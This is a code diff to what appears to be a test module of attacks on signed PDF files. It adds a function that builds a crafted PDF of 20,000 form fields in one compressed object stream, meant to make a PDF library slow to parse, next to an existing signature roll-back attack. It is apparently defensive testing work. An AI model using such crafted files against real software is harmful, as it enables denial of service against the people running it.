@@ -1,6 +1,7 @@
 """What somebody might do to a signed file. Each attack takes the file and gives another one that viewers still open."""
 
 import io
+import zlib
 from collections.abc import Callable
 
 import pikepdf
@@ -167,6 +168,29 @@ def roll_back(pdf: bytes) -> bytes:
     signature = PdfFileReader(io.BytesIO(pdf)).embedded_regular_signatures[0]
     start, length = signature.byte_range[2], signature.byte_range[3]
     return pdf[: start + length]
+
+
+def slow_to_read() -> bytes:
+    """A small file of 20,000 form fields in one object stream, which the library searches from its start for each."""
+    count = 20_000
+    references = b" ".join(b"%d 0 R" % number for number in range(3, 2 + count))
+    field = b"<</FT/Tx/T(a)>> "
+    catalog = b"<</Type/Catalog/AcroForm<</Fields[" + references + b"]>>>>"
+    table = b" ".join(b"%d 0" % number for number in range(3, 2 + count)) + b" %d %d " % (2 + count, len(field))
+    packed = zlib.compress(table + field + catalog)
+    head = b"%PDF-1.7\n"
+    described = b"/Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d" % (count, len(table), len(packed))
+    container = b"2 0 obj\n<<" + described + b">>\nstream\n" + packed + b"\nendstream\nendobj\n"
+    start = len(head) + len(container)
+    places = [(0, 0, 65535), (1, start, 0), (1, len(head), 0), *((2, 2, index) for index in range(count))]
+    rows = zlib.compress(b"".join(k.to_bytes(1) + a.to_bytes(4) + b.to_bytes(2) for k, a, b in places))
+    described = b"/Type/XRef/W[1 4 2]/Size %d/Root %d 0 R/Filter/FlateDecode/Length %d" % (
+        len(places),
+        2 + count,
+        len(rows),
+    )
+    references = b"1 0 obj\n<<" + described + b">>\nstream\n" + rows + b"\nendstream\nendobj\n"
+    return head + container + references + b"startxref\n%d\n%%%%EOF\n" % start
 
 
 ATTACKS: dict[str, Attack] = {
